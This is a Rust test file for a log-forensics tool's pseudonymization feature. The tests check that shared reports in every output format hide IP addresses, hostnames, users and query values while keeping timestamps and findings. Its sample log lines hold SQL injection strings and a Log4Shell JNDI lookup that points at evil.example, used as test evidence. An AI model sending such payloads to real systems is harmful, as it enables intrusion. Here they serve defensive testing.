//! Reports that can be shared, read as somebody would who wants to know who is in them: nothing of the logs that says so may be
//! found in any format, and what the report says besides must be the same.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fs;
use std::net::IpAddr;
use std::path::Path;

use aftertrace::format;
use aftertrace::format::spec::LogKind;
use aftertrace::pseudonym::Pseudonyms;
use aftertrace::report::pseudonymize::pseudonymize;
use aftertrace::report::table::{self, TableOptions};
use aftertrace::report::view::{Evidence, Report};
use aftertrace::report::{csv, ecs, html, json, markdown, saved, schema, timesketch};
use ipnet::IpNet;
use regex::Regex;
use serde_json::Value;

use crate::harness::{Scenario, read_log, run_in, scenario, scenarios, text};

const KEY: &[u8] = b"an example of 32 bytes, or more, of a key";

/// Values shorter than this are words of any text.
const TELLING: usize = 8;

fn names() -> Pseudonyms {
    Pseudonyms::new(KEY).unwrap()
}

fn expected(scenario: &Scenario) -> Report {
    let path = scenario.home.join("expected.json");
    saved::read(&path, &fs::read(&path).unwrap()).unwrap()
}

fn pseudonymized(report: &Report) -> Report {
    let mut report = report.clone();
    pseudonymize(&mut report, &names());
    report
}

/// The report in every format, by its name.
fn rendered(report: &Report) -> BTreeMap<&'static str, String> {
    let mut all = BTreeMap::new();
    let mut add = |name, write: &dyn Fn(&mut Vec<u8>) -> std::io::Result<()>| {
        let mut out = Vec::new();
        write(&mut out).unwrap();
        all.insert(name, String::from_utf8(out).unwrap());
    };
    for (name, width) in [("table", 80), ("wide table", 400)] {
        let options = TableOptions {
            width,
            tz: None,
            color: false,
        };
        add(name, &|out| table::render(report, &options, out));
    }
    add("json", &|out| json::render(report, out));
    add("markdown", &|out| markdown::render(report, None, out));
    add("csv", &|out| csv::render(report, out));
    add("timesketch", &|out| timesketch::render(report, out));
    add("ecs", &|out| ecs::render(report, out));
    add("html", &|out| html::render(report, None, out));
    all.entry("html").and_modify(|page| *page = told_by(page));
    all
}

/// What a page tells: its texts and its data, without the styles and scripts that are in every page.
fn told_by(page: &str) -> String {
    let part = Regex::new("(?s)<(style|script)>.*?</(style|script)>").unwrap();
    let page = part.replace_all(page, "");
    let entities = [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&amp;", "&"),
    ];
    let plain = entities
        .iter()
        .fold(page.to_string(), |text, (entity, character)| {
            text.replace(entity, character)
        });
    format!("{page}{plain}")
}

/// What somebody could look for.
#[derive(Default)]
struct Secrets {
    addresses: HashSet<IpAddr>,
    hosts: BTreeSet<String>,
    values: BTreeSet<String>,
}

fn addresses(text: &str) -> HashSet<IpAddr> {
    // Versions of browsers: `Chrome/110.0.0.0`.
    let version = Regex::new(r" [A-Za-z]+/[0-9.]+").unwrap();
    let text = version.replace_all(text, " ");
    let is_part = |character: char| character.is_ascii_hexdigit() || ":.".contains(character);
    let words = text.split(|character| !is_part(character));
    let candidates = words.flat_map(|word| {
        let word = word.trim_matches('.');
        let front = word.rsplit_once(':').map_or(word, |(front, _)| front);
        [word, word.trim_end_matches(':'), front]
    });
    let parsed = candidates
        .filter(|word| word.len() > 3)
        .filter_map(|word| word.parse().ok());
    parsed.collect()
}

/// One round of percent-encoding undone.
fn decoded(value: &str) -> String {
    let percent = Regex::new("%([0-9A-Fa-f]{2})").unwrap();
    let plain = value.replace('+', " ");
    let plain = percent.replace_all(&plain, |code: &regex::Captures<'_>| {
        char::from(u8::from_str_radix(&code[1], 16).unwrap()).to_string()
    });
    plain.into_owned()
}

impl Secrets {
    fn of(log: &str) -> Secrets {
        let host = Regex::new(r"(?i)\b(?:[a-z0-9-]+\.)+(?:example|test)\b").unwrap();
        // Who wrote a robot says so in its user agent.
        let home = Regex::new(r#"(?i)[+(;,] ?https?://([a-z0-9.-]+)"#).unwrap();
        let homes: BTreeSet<String> = home
            .captures_iter(log)
            .map(|found| found[1].to_lowercase())
            .collect();
        let hosts = host
            .find_iter(log)
            .map(|found| found.as_str().to_lowercase());
        let query = Regex::new(r#"\?([^\s"“”]+)"#).unwrap();
        let open = query.replace_all(log, "?");
        let mut values = BTreeSet::new();
        for found in query.captures_iter(log) {
            for pair in found[1].split('&') {
                let value = pair.split_once('=').map_or(pair, |(_, value)| value);
                values.extend([value.to_owned(), decoded(value)]);
            }
        }
        // What also stands in a path or a user agent is no secret.
        values.retain(|value| value.len() >= TELLING && !open.contains(value.as_str()));
        Secrets {
            addresses: addresses(log),
            hosts: hosts.filter(|host| !homes.contains(host)).collect(),
            values,
        }
    }

    /// What of it stands in a text.
    fn told(&self, text: &str) -> Vec<String> {
        let mut told: Vec<String> = addresses(text)
            .intersection(&self.addresses)
            .map(ToString::to_string)
            .collect();
        let lower = text.to_lowercase();
        let all = self
            .hosts
            .iter()
            .filter(|host| lower.contains(host.as_str()));
        told.extend(all.cloned());
        told.extend(
            self.values
                .iter()
                .filter(|value| text.contains(value.as_str()))
                .cloned(),
        );
        told
    }
}

/// All texts of a value of JSON, without its escapes.
fn texts(value: &Value, out: &mut String) {
    match value {
        Value::String(text) => {
            out.push_str(text);
            out.push('\n');
        }
        Value::Array(items) => items.iter().for_each(|item| texts(item, out)),
        Value::Object(fields) => fields.values().for_each(|field| texts(field, out)),
        _ => {}
    }
}

#[test]
fn no_format_of_any_scenario_tells_who_or_what() {
    let mut complaints = Vec::new();
    let (mut addresses, mut hosts, mut values) = (0, 0, 0);
    for scenario in scenarios() {
        let logs = scenario.inputs.iter();
        let log: String = logs
            .map(|name| text(&read_log(&scenario.folder.join(name))))
            .collect();
        let secrets = Secrets::of(&log);
        addresses += secrets.addresses.len();
        hosts += secrets.hosts.len();
        values += secrets.values.len();
        let report = pseudonymized(&expected(&scenario));
        for (format, mut written) in rendered(&report) {
            let mut plain = String::new();
            for value in serde_json::Deserializer::from_str(&written)
                .into_iter::<Value>()
                .map_while(Result::ok)
            {
                texts(&value, &mut plain);
            }
            // Escapes of Markdown, and quotes of CSV.
            plain.push_str(&written.replace('\\', "").replace("\"\"", "\""));
            written.push_str(&plain);
            for secret in secrets.told(&written).into_iter().take(3) {
                let line = written
                    .lines()
                    .find(|line| line.to_lowercase().contains(&secret.to_lowercase()));
                complaints.push(format!(
                    "{}, {format}: {secret} in {}",
                    scenario.name,
                    line.unwrap_or_default()
                ));
            }
        }
    }
    assert!(
        complaints.is_empty(),
        "{}\n{}",
        complaints.len(),
        complaints.join("\n")
    );
    assert!(
        addresses > 10_000 && hosts > 50 && values > 1_000,
        "{addresses} {hosts} {values}"
    );
}

/// Both reports as values, field for field.
fn same_but_for_texts(before: &Value, after: &Value, at: &str) {
    match (before, after) {
        (Value::Object(before), Value::Object(after)) => {
            assert!(before.keys().eq(after.keys()), "{at}");
            for (name, value) in before {
                same_but_for_texts(value, &after[name], &format!("{at}/{name}"));
            }
        }
        (Value::Array(before), Value::Array(after)) => {
            assert_eq!(before.len(), after.len(), "{at}");
            for (index, (before, after)) in before.iter().zip(after).enumerate() {
                same_but_for_texts(before, after, &format!("{at}/{index}"));
            }
        }
        (Value::String(before), Value::String(after)) => {
            assert_eq!(before.is_empty(), after.is_empty(), "{at}");
            let kept = [
                "cause",
                "id",
                "role",
                "category",
                "outcome",
                "start",
                "end",
                "time",
                "first",
                "last",
                "phase",
                "kind",
                "severity",
                "format",
                "peak_at",
                "dimension",
                "classification",
                "parameter",
                "relation",
                "utc_offset",
                "title",
            ];
            if kept.iter().any(|field| at.ends_with(&format!("/{field}")))
                || at.contains("/techniques/")
            {
                assert_eq!(before, after, "{at}");
            }
        }
        (before, after) => assert_eq!(before, after, "{at}"),
    }
}

#[test]
fn numbers_times_and_findings_stay_and_the_schema_holds() {
    let schema = serde_json::to_value(schema::report()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    for scenario in scenarios() {
        let report = expected(&scenario);
        let after = serde_json::to_value(pseudonymized(&report)).unwrap();
        assert!(validator.is_valid(&after), "{}", scenario.name);
        let mut before = serde_json::to_value(&report).unwrap();
        let mut after = after;
        assert_eq!(after["pseudonymized"], true);
        let warnings = after["warnings"].as_array_mut().unwrap();
        let said = warnings
            .iter()
            .position(|warning| warning["code"] == "pseudonymized");
        warnings.remove(said.unwrap());
        before["pseudonymized"] = true.into();
        same_but_for_texts(&before, &after, &scenario.name);
    }
}

#[test]
fn the_same_key_gives_the_same_bytes_and_another_key_others() {
    let report = expected(&scenario("two-attackers"));
    assert_eq!(
        rendered(&pseudonymized(&report)),
        rendered(&pseudonymized(&report))
    );
    let mut other = report.clone();
    pseudonymize(&mut other, &Pseudonyms::new(&KEY[1..]).unwrap());
    let clients = |report: &Report| report.incidents[0].actors[0].clients.clone();
    assert_ne!(clients(&pseudonymized(&report)), clients(&other));
}

#[test]
fn equal_addresses_stay_equal_and_networks_hold_the_same_clients() {
    let mut seen = 0;
    for scenario in scenarios() {
        let (before, after) = (expected(&scenario), expected(&scenario));
        let after = pseudonymized(&after);
        let mut pairs: BTreeMap<String, String> = BTreeMap::new();
        for (before, after) in before.incidents.iter().zip(&after.incidents) {
            for (before, after) in before.actors.iter().zip(&after.actors) {
                for (client, name) in before.clients.iter().zip(&after.clients) {
                    assert_eq!(
                        pairs.entry(client.clone()).or_insert_with(|| name.clone()),
                        name
                    );
                }
                for (network, name) in before.networks.iter().zip(&after.networks) {
                    let (network, name): (IpNet, IpNet) =
                        (network.parse().unwrap(), name.parse().unwrap());
                    assert_eq!(name, name.trunc());
                    assert_eq!(network.prefix_len(), name.prefix_len());
                    let inside = |network: IpNet, clients: &[String]| -> Vec<bool> {
                        let clients = clients.iter().map(|client| client.parse::<IpAddr>());
                        clients
                            .map(|client| client.is_ok_and(|client| network.contains(&client)))
                            .collect()
                    };
                    assert_eq!(
                        inside(network, &before.clients),
                        inside(name, &after.clients)
                    );
                    seen += 1;
                }
            }
        }
        let different: BTreeSet<&String> = pairs.values().collect();
        assert_eq!(different.len(), pairs.len(), "{}", scenario.name);
    }
    assert!(seen > 100);
}

/// What becomes of one line of a log.
fn line(kind: LogKind, text: &str) -> String {
    let mut report = expected(&scenario("quiet-day"));
    let mut incident = expected(&scenario("two-attackers")).incidents.remove(0);
    report.inputs[0].path = "a.log".to_owned();
    report.inputs[0].kind = kind;
    incident.timeline[0].evidence = vec![Evidence {
        source: "a.log".to_owned(),
        line: Some(1),
        offset: 0,
        time: None,
        lines: 1,
        text: text.to_owned(),
    }];
    incident.injections.clear();
    incident.timeline.truncate(1);
    report.incidents = vec![incident];
    pseudonymize(&mut report, &names());
    report.incidents[0].timeline[0].evidence[0].text.clone()
}

#[test]
fn lines_of_every_format_tell_nothing() {
    let mut complaints = Vec::new();
    for format in format::ALL {
        for sample in format.samples {
            let sample = text(sample.as_ref());
            for original in sample.lines().filter(|line| !line.starts_with('#')) {
                let after = line(format.kind, original);
                for secret in Secrets::of(original).told(&after) {
                    complaints.push(format!(
                        "{}: {secret} of\n  {original}\n  {after}",
                        format.name
                    ));
                }
            }
        }
    }
    assert!(complaints.is_empty(), "{}", complaints.join("\n"));
}

#[test]
fn a_line_keeps_what_makes_it_evidence() {
    let names = names();
    let address = |text: &str| names.address(text.parse().unwrap()).to_string();
    let value = |text: &str| names.name(aftertrace::pseudonym::Kind::Value, text);
    let host = |text: &str| names.name(aftertrace::pseudonym::Kind::Host, text);
    let user = |text: &str| names.name(aftertrace::pseudonym::Kind::User, text);
    let agent = "Mozilla/5.0 (X11; Linux x86_64) Chrome/115.0.0.0 (+https://robot.example/about)";
    let found = line(
        LogKind::Access,
        &format!(
            "shop.example:443 203.0.113.9 - jane doe [05/Sep/2021:13:58:03 +0000] \"GET /item.php?no=1%27+UNION+SELECT+1&page=2 \
             HTTP/1.1\" 200 5120 \"https://www.search.example/?q=cheap+lamp\" \"{agent}\" 0.003 \"198.51.100.7, 10.0.0.1\""
        ),
    );
    assert_eq!(
        found,
        format!(
            "{}:443 {} - {} [05/Sep/2021:13:58:03 +0000] \"GET /item.php?no={}&page={} HTTP/1.1\" 200 5120 \
             \"https://{}/?q={}\" \"{agent}\" 0.003 \"{}, {}\"",
            host("shop.example"),
            address("203.0.113.9"),
            user("jane doe"),
            value("1' UNION SELECT 1"),
            value("2"),
            host("www.search.example"),
            value("cheap lamp"),
            address("198.51.100.7"),
            address("10.0.0.1"),
        )
    );
    let found = line(
        LogKind::Error,
        "2021/09/05 13:58:03 [error] 812#812: *7 open() \"/var/www/shop/x.php\" failed (2: No such file or directory), client: \
         2001:db8::7, server: shop.example, request: \"GET /x.php?a=b c\" HTTP/1.1\", host: \"shop.example:8080\", referrer: \
         \"http://10.0.0.2:8080/?secret=1\"",
    );
    assert_eq!(
        found,
        format!(
            "2021/09/05 13:58:03 [error] 812#812: *7 open() \"/var/www/shop/x.php\" failed (2: No such file or directory), client: \
             {}, server: {shop}, request: \"GET /x.php?a={} HTTP/1.1\", host: \"{shop}:8080\", referrer: \
             \"http://{}:8080/?secret={}\"",
            address("2001:db8::7"),
            value("b c\""),
            address("10.0.0.2"),
            value("1"),
            shop = host("shop.example"),
        )
    );
    for (kind, text, gone) in [
        (
            LogKind::Access,
            "May  7 02:10:24 web01 nginx: 203.0.113.9 - jane [07/May/2023:02:10:24 -0400] \"GET / HTTP/1.1\" 200 5",
            &["web01", "jane", "203.0"][..],
        ),
        (
            LogKind::Access,
            r#"{"remote_addr":"203.0.113.9","remote_user":"jane","args":"q=lamp","host":"shop.example","cookie":"sid=abc"}"#,
            &["jane", "lamp", "shop", "abc"],
        ),
        (
            LogKind::Access,
            r#"{"log":"{\"remote_user\":\"jane\",\"query\":\"q=lamp\",\"host\":\"web01\"}\n"}"#,
            &["jane", "lamp", "web01"],
        ),
        (
            LogKind::Access,
            "2021-09-05 13:58:03 192.0.2.1 GET /item.php no=lamp 443 - 203.0.113.9 Mozilla/5.0+(X11) https://shop.example/ 200",
            &["lamp", "shop", "192.0"],
        ),
        (
            LogKind::Access,
            "203.0.113.9 - - [05/Sep/2021:13:58:03 +0000] \"GET /x;jsessionid=ABCDEF?a=<b \\\"c\\\" d> HTTP/1.1\" 200 5 \"-\" \"-\"",
            &["ABCDEF", "<b", " d>"],
        ),
        (
            LogKind::Access,
            "203.0.113.9 - - [05/Sep/2021:13:58:03 +0000] \"GET /x?jane@shop.example&1'or'1'='1 HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://evil.example/a}\"",
            &["jane", "or'1", "evil.example"],
        ),
        (
            LogKind::Error,
            "You have an error in your SQL syntax; check the manual for the right syntax to use near 'lamp' OR '1'='1' at line 1",
            &["lamp", "OR"],
        ),
        (
            LogKind::Error,
            "ERROR:  invalid input syntax for type integer: \"lamp\" at character 9",
            &["lamp"],
        ),
        (
            LogKind::Error,
            "DETAIL:  Key (email)=(jane@shop.example) already exists.",
            &["jane", "shop.example"],
        ),
        (
            LogKind::Error,
            "Access denied for user 'jane'@'web01.shop.example' (using password: YES)",
            &["jane", "web01"],
        ),
        (
            LogKind::Error,
            "[auth_basic:error] [client 203.0.113.9:51000] AH01617: user jane: authentication failure for \"/admin\": Password Mismatch",
            &["jane", "203.0"],
        ),
        (
            LogKind::Error,
            "[error] [client 2001:db8::7:51000] [hostname \"shop.example\"] [uri \"/x\"], referer: https://web01/x?q=lamp",
            &["2001:db8::7", "shop", "web01", "lamp"],
        ),
    ] {
        let found = line(kind, text);
        for secret in gone {
            assert!(!found.contains(secret), "{secret} in {found}");
        }
    }
}

#[test]
fn names_of_folders_known_parties_and_hosts_are_gone_from_sentences_as_well() {
    let mut report = expected(&scenario("dirty-input"));
    let path = "/home/jane/shop.example/access.log";
    report.inputs[0].path = path.to_owned();
    report.inputs[0].notes.push(format!(
        "its clock is 3 seconds ahead, compared with {path}; 1 lines: no time, as in “203.0.113.9 - jane [x] \"GET /?q=copper+lamp HTTP/1.1\" 200 5”"
    ));
    report.warnings[0].message = format!(
        "{path}: most requests come through 10.0.0.1 (crawler.isp.example), /x?q=copper+lamp+%237; Head office sent 5"
    );
    report.warnings[0].input = Some(path.to_owned());
    report.known.push(aftertrace::report::view::KnownParty {
        name: Some("Head office".to_owned()),
        networks: vec!["198.51.100.0/24".to_owned()],
        requests: 5,
        hits: 5,
    });
    report.verdict.headline = "crawler.isp.example asked for “copper lamp #7” 7 times".to_owned();
    let mut incident = expected(&scenario("two-attackers")).incidents.remove(0);
    incident.actors[0].clients = vec!["crawler.isp.example".to_owned()];
    report.incidents = vec![incident];
    let report = pseudonymized(&report);
    for (format, written) in rendered(&report) {
        for secret in [
            "jane",
            "shop.example",
            "isp.example",
            "Head office",
            "198.51.100.0",
            "10.0.0.1",
            "copper lamp #7",
            "copper+lamp",
        ] {
            assert!(!written.contains(secret), "{format}: {secret}");
        }
        if ["json", "markdown", "table"].contains(&format) {
            assert!(written.contains("/access.log"), "{format}");
        }
    }
}

#[test]
fn the_command_line_makes_a_key_or_takes_one() {
    let folder = tempfile::tempdir().unwrap();
    let key = folder.path().join("key");
    fs::write(&key, [KEY, b"\n"].concat()).unwrap();
    let key = key.display().to_string();
    let scenario = scenario("two-attackers");
    let run = |arguments: &[&str]| {
        let output = run_in(
            &scenario.folder,
            &[arguments, &["--format", "json"]].concat(),
        );
        (output.status.code(), output.stdout, text(&output.stderr))
    };
    let own = scenario.command_line();
    let scan: Vec<&str> = ["scan", "-q", "--pseudonymize"]
        .into_iter()
        .chain(own.iter().map(String::as_str))
        .collect();
    assert_ne!(run(&scan).1, run(&scan).1, "a new key each time");
    let keyed = [&scan[..], &["--pseudonym-key", &key]].concat();
    let once = run(&keyed).1;
    assert_eq!(once, run(&keyed).1);
    let report = [
        "report",
        "../expected.json",
        "--pseudonymize",
        "--pseudonym-key",
        &key,
    ];
    assert_eq!(once, run(&report).1, "as of the saved report");
    let shared = folder.path().join("shared.json");
    fs::write(&shared, once).unwrap();
    let shared = shared.display().to_string();
    let (status, _, said) = run(&["report", &shared, "--pseudonymize"]);
    assert_eq!(status, Some(2));
    assert!(said.contains("pseudonymized already"), "{said}");
    assert_eq!(run(&["report", &shared]).0, Some(0));
    let weak = Path::new(&shared).with_file_name("weak");
    fs::write(&weak, "secret").unwrap();
    let weak = weak.display().to_string();
    for (file, part) in [
        (weak.as_str(), "/dev/urandom"),
        ("no-such-key", "cannot read the key"),
    ] {
        let (status, out, said) = run(&[&scan[..], &["--pseudonym-key", file]].concat());
        assert_eq!((status, out.len()), (Some(2), 0));
        assert!(said.contains(file) && said.contains(part), "{said}");
    }
    let (status, _, said) = run(&["report", "../expected.json", "--pseudonym-key", &key]);
    assert!(
        status == Some(2) && said.contains("--pseudonymize"),
        "{said}"
    );
}
